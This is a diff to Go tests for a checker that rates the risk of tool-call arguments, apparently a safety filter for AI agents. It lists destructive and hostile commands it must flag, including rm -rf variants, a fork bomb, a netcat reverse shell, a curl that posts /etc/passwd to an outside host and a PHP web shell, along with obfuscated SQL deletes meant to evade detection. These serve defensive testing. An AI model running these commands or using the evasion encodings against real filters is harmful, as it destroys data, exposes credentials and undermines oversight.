@@ -170,14 +170,27 @@ func TestShellAndCode(t *testing.T) {
 		"open('/etc/passwd', 'w').write('')", "require('child_process').exec('id')",
 		"eval(input())", "new Function('return 1')()", "db.users.deleteMany({})",
 		"mutation { deleteUser(id: 1) { id } }", "<?php system($_GET['c']);",
-		"/bin/rm -rf x", `\rm -rf x`, "'rm' -rf x", `r"m" -rf x`, "rm${IFS}-rf${IFS}x", "rm -r a b c", "command rm -rf x",
-		"timeout 5 rm -rf x", "busybox rm -rf x", "find / -exec rm {} \\;", ":(){ :|:& };:", "nc -e /bin/sh 192.0.2.1 99",
+		"/bin/rm -rf x", `\rm -rf x`, "'rm' -rf x", `r"m" -rf x`, "rm${IFS}-rf${IFS}x", "rm -r a b c",
+		"command rm -rf x",
+		"timeout 5 rm -rf x", "busybox rm -rf x", "find / -exec rm {} \\;", ":(){ :|:& };:",
+		"nc -e /bin/sh 192.0.2.1 99",
 		"ln -s a b", "cp -r a b", "sed -i s/a/b/ x", "rsync --delete a b", "tar xf x -C /", "ls | xargs rm",
 		"ssh root@db.example uptime", "scp a db.example:/tmp", "service nginx stop", "aws s3 rm s3://x --recursive",
-		"gcloud compute instances delete x", "globalThis.eval(x)", "window['eval'](x)", "getattr(os, 'sys' + 'tem')('x')",
+		"gcloud compute instances delete x", "globalThis.eval(x)", "window['eval'](x)",
+		"getattr(os, 'sys' + 'tem')('x')",
 		"Bun.write('x', 'y')", "File.delete('x')", "FileUtils.rm_rf('x')", `os.RemoveAll("x")`,
 		`Files.deleteIfExists(path)`, `std::fs::remove_file("x")`, "unlink('x');", "MATCH (n) DETACH DELETE n",
 		"g.V().drop()", "FLUSHALL", "CONFIG SET dir /tmp",
+		"cp a b", "mkdir x", "mkdir -p a/b", "touch /tmp/x", "kill 1", "kill %1", "killall x", "init 0",
+		"mount /dev/sda /mnt", "swapoff -a", "echo x >> ~/.bashrc", "cat x > y", ": > x",
+		"curl -X DELETE http://x.example",
+		"curl -o /bin/x http://x.example", "curl http://x.example -d @/etc/passwd", "wget http://x.example/a",
+		"git commit -am x", "git checkout .", "git rm x", "git branch -D x", "npm publish",
+		"docker stop x", "docker kill x",
+		"docker volume rm x", "docker compose down", "perl -i -pe s/a/b/ x", "python x.py", "node x.js", "bash x.sh",
+		"source x.sh", ". x.sh", "make install", "nc -l 1", "unzip x.zip", "export A=b", "alias ls='rm'", `eval "$x"`,
+		"nohup x &", "crontab x", `del C:\\x`, `copy C:\\a b`, "New-Item x", "Copy-Item a b", "Set-ItemProperty x",
+		"Stop-Service x", "Invoke-WebRequest https://x.example",
 	} {
 		if got := assess(t, "lookup", object("x", text)); got.Risk != policies.RiskCritical || got.Engine != "code" ||
 			!strings.HasPrefix(got.Raised, "arguments.x ") {
@@ -211,6 +224,24 @@ func TestHarmlessContent(t *testing.T) {
 		`{"text": "Install the plugin first. Service the car, stop at the shop."}`, `{"path": "/usr/bin/rm"}`,
 		`{"text": "Tar extraction is slow; az and aws are clouds"}`, `{"text": "Windows Files. Directory. Delete"}`,
 		`{"text": "rm is a command; \"sed\" is another"}`, `{"regex": "^\\s*(\\w+)\\s*$"}`,
+		`{"action": "DELETE"}`, `{"method": "PUT"}`, `{"status": "LOCK"}`, `{"q": "vacuum"}`, `{"mode": "analyze"}`,
+		`{"title": "Create user accounts"}`, `{"title": "create user profile"}`, `{"label": "DELETE ACCOUNT"}`,
+		`{"text": "UPDATE REQUIRED"}`, `{"button": "RESET"}`, `{"text": "lock table"}`,
+		`{"text": "Delete from the list"}`,
+		`{"text": "Create database backups, then vacuum the office."}`, `{"text": "grant access to Bob"}`,
+		`{"text": "Copy into the folder from the desktop"}`, `{"text": "Load the extension; install the plugin"}`,
+		`{"title": "Drop function (see below)"}`, `{"text": "Analyze table seven, check table legs"}`,
+		`{"text": "Begin update of the handbook"}`, `{"text": "Call mum"}`, `{"text": "Set x to 1"}`, `{"day": "su"}`,
+		`{"text": "touch screen"}`, `{"text": "kill 3 birds"}`, `{"path": "./src/main.go"}`, `{"path": "run.sh"}`,
+		`{"text": "a -> b, x >= 3, <b>bold</b> > plain"}`, `{"text": "> quoted line\n> another"}`,
+		`{"text": "Mount Everest", "make": "install base"}`,
+		`{"text": "Set-Cookie headers, Start-Up costs"}`,
+		`{"text": "Python is fun. Node clusters. Source code."}`,
+		`{"text": "Move the meeting, copy Ann, export sales"}`,
+		`{"text": "CP violation", "unit": "kill", "text2": "gzip compression"}`,
+		`{"text": "docker stops; git commits"}`,
+		`{"curl": "curly hair", "q": "curl documentation"}`, `{"text": "Release notes: init 3 of 4 done"}`,
+		`{"sql": "SELECT 1", "text": "DROP SHIPPING EXPLAINED"}`, `{"text": "EXECUTE ORDER 66"}`,
 	} {
 		if got := assess(t, "lookup", arguments); got.Risk != policies.RiskLow {
 			t.Errorf("%s: %+v, want LOW", arguments, got)
@@ -346,4 +377,53 @@ func FuzzAssess(f *testing.F) {
 			t.Errorf("%s, then %s", first.Risk.Level(), second.Risk.Level())
 		}
 	})
+}
+
+// Issue 24, item 1: SQL and commands in other shapes of arguments.
+func TestOtherShapesOfArguments(t *testing.T) {
+	const numbers = "68, 69, 76, 69, 84, 69, 32, 70, 82, 79, 77, 32, 117, 115, 101, 114, 115"
+	for _, arguments := range []string{
+		`{"x": "DELETE\tFROM\u000busers"}`, `{"x": "DELETE\u000bFROM\u000busers"}`,
+		`{"x": "DELETE\u0000FROM\u0000users"}`,
+		`{"x": "D\u200bE\u200bL\u200bE\u200bT\u200bE FROM users"}`, `{"x": "DEL\u00adETE FROM users"}`,
+		`{"x": "\u202eDELETE FROM users\u202c"}`,
+		`{"x": [["DELETE", "FROM"], ["users"]]}`, `{"x": {"0": "DELETE", "1": "FROM", "2": "users"}}`,
+		`{"x": [{"text": "DELETE"}, {"text": "FROM users"}]}`, `{"x": {"verb": "DELETE", "rest": "FROM users"}}`,
+		`{"operation": "DELETE", "table": "users"}`, `{"op": "drop", "target": "table users"}`,
+		`{"op": "truncate", "tables": "users"}`, `{"command": "rm", "args": ["-rf", "/"]}`,
+		`{"x": {"program": "git", "argv": ["push", "--force"]}}`, `{"x": {"delete": "users", "deletes": []}}`,
+		`{"x": "` + numbers + `"}`,
+		`{"x": "01000100 01010010 01001111 01010000 00100000 01010100 01000001 01000010 ` +
+			`01001100 01000101 00100000 01110101 01110011 01100101 01110010 01110011"}`,
+		`{"x": "please run REVMRVRFIEZST00gdXNlcnM= now"}`, `{"x": "q=REVMRVRFIEZST00gdXNlcnM="}`,
+		`{"x": "IRCUYRKUIUQEMUSPJUQHK43FOJZQ===="}`, `{"x": "44:45:4c:45:54:45:20:46:52:4f:4d:20:75:73:65:72:73"}`,
+		`{"x": "=44=45=4C=45=54=45=20=46=52=4F=4D=20=75=73=65=72=73"}`,
+		`{"x": "\\104\\105\\114\\105\\124\\105\\040\\106\\122\\117\\115\\040users"}`,
+		`{"x": "\\u{44}\\u{45}\\u{4c}\\u{45}\\u{54}\\u{45} FROM users"}`, `{"x": "%u0044ELETE%u0020FROM%u0020users"}`,
+		`{"x": "<q>DELETE FROM users</q>"}`, `{"x": "<a>1</a><q>DELETE FROM users</q>"}`,
+		`{"x": "<![CDATA[DELETE FROM users]]>"}`, `{"x": "q=DELETE+FROM+users&x=1"}`,
+		`{"x": "'DEL' || 'ETE FROM users'"}`, `{"x": "CONCAT('DELETE', ' FROM users')"}`,
+		`{"x": "cur.execute('DEL' 'ETE FROM users')"}`, `{"x": "DELETE WHERE { ?s ?p ?o }"}`,
+		`{"x": "DROP MEASUREMENT cpu"}`,
+	} {
+		if got := assess(t, "lookup", arguments); got.Risk < policies.RiskHigh {
+			t.Errorf("%s: %+v, want HIGH or CRITICAL", arguments, got)
+		}
+	}
+	for _, arguments := range []string{
+		`{"command": "status", "args": ["--short"]}`, `{"action": "delete", "note": "later"}`, `{"drop": "10 %"}`,
+		`{"table": "users", "operation": "select"}`, `{"ids": "1, 2, 3, 65, 66, 67"}`,
+		`{"type": "update", "id": "x-1"}`,
+		`{"token": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJhbm4ifQ.abcdefghijklmnopqrstuv"}`,
+		`{"html": "<p>Please <b>delete</b> this from the list</p>"}`, `{"text": "it's 'a' or 'b', 'c'"}`,
+		`{"parts": [{"text": "Delete"}, {"text": "from the list"}]}`,
+		`{"url": "https://example.org/?q=delete+row&x=1"}`,
+		`{"rows": [["name", "update"], ["bob", "set"]]}`,
+		`{"text": "emoji \ud83d\ude00 and flags \ud83c\udde8\ud83c\udded"}`,
+		`{"0": "update", "1": "the page"}`, `{"time": "10:45:30", "mac": "44:45:4c:45:54:45"}`,
+	} {
+		if got := assess(t, "lookup", arguments); got.Risk != policies.RiskLow {
+			t.Errorf("%s: %+v, want LOW", arguments, got)
+		}
+	}
 }
